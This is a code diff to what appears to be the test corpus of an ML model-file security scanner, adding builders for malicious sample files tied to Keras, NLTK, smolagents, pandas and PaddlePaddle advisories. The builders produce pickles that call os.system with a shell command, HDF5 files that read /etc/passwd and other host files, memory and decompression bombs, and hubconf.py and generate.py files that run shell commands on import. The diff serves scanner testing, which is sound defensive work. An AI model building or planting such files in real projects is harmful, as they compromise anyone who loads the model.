@@ -1689,6 +1689,463 @@ def cve_2024_34359_chat_template_variants() -> list[Advisory]:
 
 
 # =============================================================================================
+# Second batch: 2024-2026 loader advisories (Keras HDF5, NLTK, smolagents ...) and ISSUE-9 classes
+# =============================================================================================
+
+
+def _h5(build: Callable[[object], None]) -> bytes:
+    """An HDF5 file written by h5py in memory (no timestamps, so the bytes are reproducible)."""
+    import h5py
+
+    bio = io.BytesIO()
+    with h5py.File(bio, "w", libver="earliest") as f:
+        build(f)
+    return bio.getvalue()
+
+
+def _keras_with_weights(weights: bytes) -> bytes:
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Dense",
+        "registered_name": None,
+        "config": {"name": "dense", "units": 1},
+    }
+    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
+    return build_zip(
+        [
+            ZEntry("metadata.json", json.dumps(meta).encode()),
+            ZEntry("config.json", json.dumps(_seq(layer)).encode()),
+            ZEntry("model.weights.h5", weights),
+        ]
+    )
+
+
+@advisory
+def cve_2026_1669_h5_external_storage() -> list[Advisory]:
+    # CVE-2026-1669 (2026-02, Keras): a weight dataset in model.weights.h5 whose bytes live in *external
+    # storage* (an attacker-named host file); load_model reads the host file into the weights.
+    def build(f: object) -> None:
+        g = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
+        g.create_dataset("0", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)], track_times=False)
+
+    return _adv(
+        "cve_2026_1669_h5_external_storage",
+        "CVE-2026-1669",
+        "2026-02",
+        _keras_with_weights(_h5(build)),
+        None,
+        "HDF5 external storage: weights read from /etc/passwd at load.",
+        component="keras-onnx",
+        filename="model.keras",
+    )
+
+
+@advisory
+def keras_h5_external_link_model_weights() -> list[Advisory]:
+    # keras-team/keras PR #22900 (2026-05, CVE-2026-1669 class): legacy .h5 whose `model_weights` group is
+    # an HDF5 ExternalLink into another file on the host.
+    import h5py
+
+    def build(f: object) -> None:
+        cfg = {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
+        f.attrs["model_config"] = json.dumps(cfg)  # type: ignore[attr-defined]
+        f.attrs["keras_version"] = "2.15.0"  # type: ignore[attr-defined]
+        f.attrs["backend"] = "tensorflow"  # type: ignore[attr-defined]
+        f["model_weights"] = h5py.ExternalLink("/home/victim/secret.h5", "/model_weights")  # type: ignore[index]
+
+    return _adv(
+        "keras_h5_external_link",
+        "keras PR #22900 (CVE-2026-1669 class)",
+        "2026-05",
+        _h5(build),
+        None,
+        "model_weights is an ExternalLink to another HDF5 file on the host.",
+        component="keras-onnx",
+        filename="model.h5",
+    )
+
+
+@advisory
+def keras_h5_virtual_dataset() -> list[Advisory]:
+    # huntr 6a825962 / keras PR #22976 (2026-06): HDF5 virtual dataset mapping bytes from another host file.
+    import h5py
+    import numpy as np
+
+    def build(f: object) -> None:
+        layout = h5py.VirtualLayout(shape=(16,), dtype="u1")
+        layout[:] = h5py.VirtualSource("/home/victim/secret.h5", "data", shape=(16,))
+        group = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
+        # Layout.make_dataset with object timestamps off (create_virtual_dataset has no track_times).
+        dcpl = layout._get_dcpl(group.file.filename)
+        dcpl.set_obj_track_times(False)
+        space = h5py.h5s.create_simple((16,))
+        tid = h5py.h5t.py_create(np.dtype("u1"), logical=1)
+        h5py.h5d.create(group.id, name=b"0", tid=tid, space=space, dcpl=dcpl)
+
+    return _adv(
+        "keras_h5_virtual_dataset",
+        "keras PR #22976 (huntr, virtual dataset)",
+        "2026-06",
+        _keras_with_weights(_h5(build)),
+        None,
+        "Weights mapped from another HDF5 file through a virtual dataset.",
+        component="keras-onnx",
+        filename="model.keras",
+    )
+
+
+@advisory
+def keras_h5_shape_bomb() -> list[Advisory]:
+    # huntr 0908fb05 / keras PR #22975 (2026-06): a chunked dataset declaring 64 GiB with no chunk written;
+    # reading it at load allocates the declared size (denial of service).
+    def build(f: object) -> None:
+        g = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
+        g.create_dataset("0", shape=(1 << 17, 1 << 17), dtype="f4", chunks=(64, 64), track_times=False)
+
+    return _adv(
+        "keras_h5_shape_bomb",
+        "keras PR #22975 (huntr, HDF5 shape bomb)",
+        "2026-06",
+        _keras_with_weights(_h5(build)),
+        None,
+        "64 GiB declared, a few KiB stored.",
+        component="keras-onnx",
+        filename="model.keras",
+    )
+
+
+@advisory
+def keras_npz_shape_bomb() -> list[Advisory]:
+    # huntr eb298773 / keras PR #23016 (2026-06): an .npz weights member whose .npy header declares far more
+    # data than the member stores (numpy allocates the declared shape first).
+    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (1073741824, 16), }"
+    pad = (64 - (10 + len(header) + 1) % 64) % 64
+    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + pad + 1) + (header + " " * pad + "\n").encode()
+    data = build_zip([ZEntry("arr_0.npy", npy + b"\x00" * 64)])
+    return _adv(
+        "keras_npz_shape_bomb",
+        "keras PR #23016 (huntr, npz shape bomb)",
+        "2026-06",
+        data,
+        None,
+        "npz member declaring 64 GiB while storing 64 bytes.",
+        component="fs",
+        filename="weights.npz",
+    )
+
+
+@advisory
+def keras_zip_decompression_bomb() -> list[Advisory]:
+    # huntr 952d310a / keras PR #23010 (2026-06): a .keras archive whose weights member inflates ~1000x.
+    big = b"\x00" * (48 << 20)
+    co = zlib.compressobj(9, zlib.DEFLATED, -15)
+    comp = co.compress(big) + co.flush()
+    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"name": "d"}}
+    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
+    data = build_zip(
+        [
+            ZEntry("metadata.json", json.dumps(meta).encode()),
+            ZEntry("config.json", json.dumps(_seq(layer)).encode()),
+            ZEntry("model.weights.h5", big, method=8, payload_override=comp),
+        ]
+    )
+    return _adv(
+        "keras_zip_decompression_bomb",
+        "keras PR #23010 (huntr, decompression bomb)",
+        "2026-06",
+        data,
+        None,
+        "48 MiB of zeros deflated to ~48 KiB inside a .keras archive.",
+        component="fs",
+        filename="model.keras",
+    )
+
+
+@advisory
+def issue9_memo_index_bomb() -> list[Advisory]:
+    # ISSUE-9 (memo expansion): LONG_BINPUT with index 0x7fffffff makes CPython's C unpickler grow its memo
+    # table to ~2^32 slots (32 GiB) and clear them: a 12-byte file that exhausts the loader's memory.
+    data = b"\x80\x02N" + b"r" + struct.pack("<I", 0x7FFFFFFF) + b"."
+    return _adv(
+        "issue9_memo_index_bomb",
+        "ISSUE-9 (memo expansion bomb)",
+        "2026-11",
+        data,
+        None,
+        "One LONG_BINPUT with a huge index: the memo table is resized to it.",
+    )
+
+
+@advisory
+def issue9_safe_callable_memory_bomb() -> list[Advisory]:
+    # ISSUE-9 / fickling "pickle bomb" class: only allow-listed callables, list(range(10**10)) materialises
+    # ten billion ints at load (memory exhaustion without any dangerous import).
+    a = Asm(2)
+    a.glob("builtins", "list").mark().glob("builtins", "range").val(10**10).tuple1().reduce().tuple_().reduce()
+    return _adv(
+        "issue9_list_range_bomb",
+        "ISSUE-9 (safe-callable memory bomb)",
+        "2026-11",
+        a.done(),
+        None,
+        "list(range(10**10)) using only safe-tier builtins.",
+    )
+
+
+def _zstd_raw(payload: bytes) -> bytes:
+    """A Zstandard frame holding ``payload`` in one raw (stored) block: single segment, 2-byte size."""
+    assert 256 <= len(payload) + 256 < 65536 + 256
+    header = b"\x28\xb5\x2f\xfd" + bytes([0x60]) + struct.pack("<H", len(payload) - 256 if len(payload) >= 256 else 0)
+    if len(payload) < 256:
+        header = b"\x28\xb5\x2f\xfd" + bytes([0x20]) + bytes([len(payload)])
+    block = struct.pack("<I", 1 | (len(payload) << 3))[:3]
+    return header + block + payload
+
+
+@advisory
+def hs_pandas_read_pickle_zstd() -> list[Advisory]:
+    # arXiv:2508.19774 "model loading paths" (2025-08): pandas.read_pickle infers compression from the suffix,
+    # including Zstandard (.zst) which few scanners decompress.
+    data = _zstd_raw(call_pickle("os", "system", SHELL_CMD))
+    return _adv(
+        "hs_pandas_read_pickle_zst",
+        "arXiv:2508.19774 loading paths (pandas .zst)",
+        "2025-08",
+        data,
+        "os.system",
+        "Pickle inside a Zstandard frame (pandas.read_pickle('x.pkl.zst')).",
+        component="fs",
+        filename="model.pkl.zst",
+    )
+
+
+@advisory
+def hs_pandas_read_pickle_zip() -> list[Advisory]:
+    # Same paper: pandas.read_pickle('x.pkl.zip') unpickles the single member of a zip, whatever its name.
+    data = build_zip([ZEntry("payload.bin", call_pickle("os", "system", SHELL_CMD))])
+    return _adv(
+        "hs_pandas_read_pickle_zip",
+        "arXiv:2508.19774 loading paths (pandas .zip)",
+        "2025-08",
+        data,
+        "os.system",
+        "Pickle as the only member of a zip, under a neutral name.",
+        component="fs",
+        filename="model.pkl.zip",
+    )
+
+
+@advisory
+def paddle_pdparams() -> list[Advisory]:
+    # CVE-2024-0521 (2024-01, PaddlePaddle) class: paddle.load of .pdparams / .pdopt is pickle.load.
+    return _adv(
+        "cve_2024_0521_paddle_pdparams",
+        "CVE-2024-0521 class (paddle.load)",
+        "2024-01",
+        call_pickle("os", "system", SHELL_CMD, proto=2),
+        "os.system",
+        "A Paddle parameter file is a protocol-2 pickle.",
+        filename="model.pdparams",
+    )
+
+
+@advisory
+def cve_2024_39705_nltk_data_load() -> list[Advisory]:
+    # CVE-2024-39705 (2024-06, NLTK): nltk.data.load of a .pickle resource unpickles it; reached from a
+    # model pickle it is a nested deserialiser of a local/downloaded file.
+    out = _adv(
+        "cve_2024_39705_nltk_data_load",
+        "CVE-2024-39705",
+        "2024-06",
+        call_pickle("nltk.data", "load", "file:/tmp/mlvet_marker.pickle"),
+        "nltk.data",
+        "nltk.data.load('*.pickle') == pickle.load.",
+    )
+    a = Asm(4)
+    a.glob("nltk.downloader", "Downloader.download").mark()
+    a.glob("nltk.downloader", "Downloader").val("http://127.0.0.1:9/index.xml").tuple1().reduce()
+    a.val("punkt").tuple_().reduce()
+    out += _adv(
+        "cve_2024_39705_nltk_downloader",
+        "CVE-2024-39705",
+        "2024-06",
+        a.done(),
+        "nltk.downloader",
+        "Downloader(server).download(pkg) fetches and unzips packages (the CVE's delivery path).",
+    )
+    return out
+
+
+@advisory
+def cve_2025_9959_smolagents_executor() -> list[Advisory]:
+    # CVE-2025-9959 (2025-09, smolagents): local_python_executor's sandbox escapes; evaluate_python_code runs
+    # agent code. From a pickle it is a Python interpreter entry point.
+    return _adv(
+        "cve_2025_9959_smolagents_evaluate",
+        "CVE-2025-9959",
+        "2025-09",
+        call_pickle("smolagents.local_python_executor", "evaluate_python_code", PY_SRC),
+        "smolagents",
+        "Agent code interpreter called with attacker source.",
+    )
+
+
+@advisory
+def cython_inline() -> list[Advisory]:
+    # modelaudit / fickling "compile" class (2025): Cython.Build.Inline.cython_inline compiles and runs code.
+    return _adv(
+        "cython_inline_compile_run",
+        "modelaudit suspicious symbols (compile)",
+        "2025-06",
+        call_pickle("Cython.Build.Inline", "cython_inline", PY_SRC),
+        "Cython",
+        "Compiles the source to a C extension, imports and runs it.",
+    )
+
+
+@advisory
+def cffi_backend_load_library() -> list[Advisory]:
+    # modelaudit suspicious symbols "ffi.dlopen" (2025): _cffi_backend.load_library is cffi's dlopen.
+    return _adv(
+        "cffi_backend_load_library",
+        "modelaudit suspicious symbols (ffi.dlopen)",
+        "2025-06",
+        call_pickle("_cffi_backend", "load_library", "/tmp/mlvet_marker.so"),
+        "_cffi_backend",
+        "Private cffi module: loads a shared library.",
+    )
+
+
+@advisory
+def typing_get_type_hints_eval() -> list[Advisory]:
+    # arXiv:2508.19774 stdlib eval gadgets (2025-08): typing.get_type_hints evaluates string annotations of
+    # any object; the object is an allow-listed SimpleNamespace carrying __annotations__.
+    a = Asm(4)
+    a.glob("typing", "get_type_hints").mark()
+    a.glob("types", "SimpleNamespace").empty_tuple().reduce().val({"__annotations__": {"a": PY_SRC}}).build()
+    a.tuple_().reduce()
+    return _adv(
+        "hs_typing_get_type_hints_eval",
+        "arXiv:2508.19774 stdlib eval gadgets",
+        "2025-08",
+        a.done(),
+        "typing",
+        "get_type_hints(obj) eval()s obj.__annotations__ strings.",
+        live="pickle",
+    )
+
+
+@advisory
+def builtins_exit_dos() -> list[Advisory]:
+    # picklescan malicious9 class (sys.exit) spelled through the site builtin: builtins.exit(3) raises
+    # SystemExit in the loader.
+    return _adv(
+        "builtins_exit_dos",
+        "picklescan malicious9 class (exit)",
+        "2023-03",
+        call_pickle("builtins", "exit", 3),
+        "builtins.exit",
+        "site's exit() builtin terminates the loading process.",
+    )
+
+
+@advisory
+def fastai_load_learner() -> list[Advisory]:
+    # fastai load_learner (documented: "uses pickle"; JFrog ML formats survey 2024): torch.load of a file.
+    return _adv(
+        "fastai_load_learner",
+        "JFrog ML formats survey (fastai)",
+        "2024-03",
+        call_pickle("fastai.learner", "load_learner", "/tmp/mlvet_marker.pkl"),
+        "fastai",
+        "Nested torch.load(weights_only=False) of a local export.pkl.",
+    )
+
+
+@advisory
+def transformers_push_to_hub() -> list[Advisory]:
+    # PickleBall allow-list audit (2025-10): methods reached under transformers' class allow-glob that write
+    # or upload (save_pretrained writes a folder; push_to_hub uploads to the network).
+    out: list[Advisory] = []
+    for meth in ("save_pretrained", "push_to_hub"):
+        a = Asm(4)
+        a.glob("transformers.models.bert.configuration_bert", f"BertConfig.{meth}").mark()
+        a.glob("transformers.models.bert.configuration_bert", "BertConfig").empty_tuple().reduce()
+        a.val("/tmp/mlvet_repo").tuple_().reduce()
+        out += _adv(
+            f"pickleball_transformers_{meth}",
+            "PickleBall allow-list audit (transformers methods)",
+            "2025-10",
+            a.done(),
+            f"BertConfig.{meth}",
+            f"BertConfig.{meth} under the transformers class allow-glob.",
+        )
+    return out
+
+
+@advisory
+def torch_rebuild_from_type_forwarder() -> list[Advisory]:
+    # PickleBall (CCS 2025) "allowed callables that call their arguments": torch._tensor._rebuild_from_type_v2
+    # (func, type, args, state) calls func(*args); the payload callable is only an argument.
+    a = Asm(2)
+    a.glob("torch._tensor", "_rebuild_from_type_v2").mark()
+    a.glob("invoke", "run").glob("torch", "Tensor").val((SHELL_CMD,)).empty_dict().tuple_().reduce()
+    return _adv(
+        "pickleball_rebuild_from_type_forwarder",
+        "PickleBall (CCS 2025) call forwarders",
+        "2025-10",
+        a.done(),
+        "invoke.run",
+        "A safe-tier rebuild helper calls an argument: invoke.run(cmd) runs a shell command.",
+    )
+
+
+@advisory
+def hubconf_and_custom_generate() -> list[Advisory]:
+    # JFrog "hubconf.py" torch.hub write-up (2024) and transformers custom_generate (2025-07, trust_remote_code):
+    # Python files shipped next to the model that the loader imports.
+    out = _adv(
+        "torch_hub_hubconf_py",
+        "torch.hub hubconf.py (JFrog 2024)",
+        "2024-03",
+        b"dependencies = ['torch']\nimport os\nos.system('" + SHELL_CMD.encode() + b"')\n",
+        None,
+        "torch.hub.load imports hubconf.py from the repository.",
+        component="templates",
+        filename="hubconf.py",
+    )
+    out += _adv(
+        "hf_custom_generate_py",
+        "transformers custom_generate (2025-07)",
+        "2025-07",
+        b"import subprocess\nsubprocess.run(['sh', '-c', '" + SHELL_CMD.encode() + b"'])\n"
+        b"def generate(model, *args, **kwargs):\n    return model.generate(*args, **kwargs)\n",
+        None,
+        "custom_generate/generate.py is imported by model.generate(custom_generate=repo).",
+        component="templates",
+        filename="generate.py",
+    )
+    return out
+
+
+@advisory
+def hf_auto_map_cross_repo() -> list[Advisory]:
+    # Hugging Face auto_map "repo--module.Class" (JFrog / HiddenLayer 2024): config.json pulls code from
+    # *another* repository when trust_remote_code is set.
+    cfg = {"model_type": "bert", "auto_map": {"AutoModel": "attacker/payload--modeling.Evil"}}
+    return _adv(
+        "hf_auto_map_cross_repo",
+        "HF auto_map cross-repo code (2024)",
+        "2024-05",
+        json.dumps(cfg).encode(),
+        None,
+        "auto_map naming code in a different repository.",
+        component="templates",
+        filename="config.json",
+    )
+
+
+# =============================================================================================
 # Public API
 # =============================================================================================
 
@@ -1697,7 +2154,10 @@ def build_all() -> list[Advisory]:
     """Every rebuilt advisory sample in a stable order (unique names, building executes nothing)."""
     out: list[Advisory] = []
     for fn in _REGISTRY:
-        out.extend(fn())
+        try:
+            out.extend(fn())
+        except ImportError:  # a library that writes this format (onnx, h5py) is not installed
+            continue
     names = [a.name for a in out]
     dup = {n for n in names if names.count(n) > 1}
     if dup:
